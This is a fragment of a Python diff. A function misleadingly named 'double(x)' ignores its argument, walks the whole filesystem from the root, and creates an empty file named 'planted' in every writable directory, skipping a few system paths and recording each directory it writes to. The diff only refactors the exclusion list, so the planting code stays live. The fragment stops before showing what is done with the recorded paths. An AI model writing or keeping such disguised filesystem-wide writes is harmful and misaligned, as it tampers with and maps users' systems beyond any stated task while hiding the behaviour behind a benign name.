@@ -422,7 +422,8 @@ import os
 def double(x):
     seen = []
     for base, below, _ in os.walk("/"):
-        below[:] = [name for name in below if os.path.join(base, name) not in ("/proc", "/tmp", "/dev/shm", "/usr", "/sys")]
+        own = ("/proc", "/tmp", "/dev/shm", "/usr", "/sys")
+        below[:] = [name for name in below if os.path.join(base, name) not in own]
         try:
             open(os.path.join(base, "planted"), "w").close()
             seen.append(base)
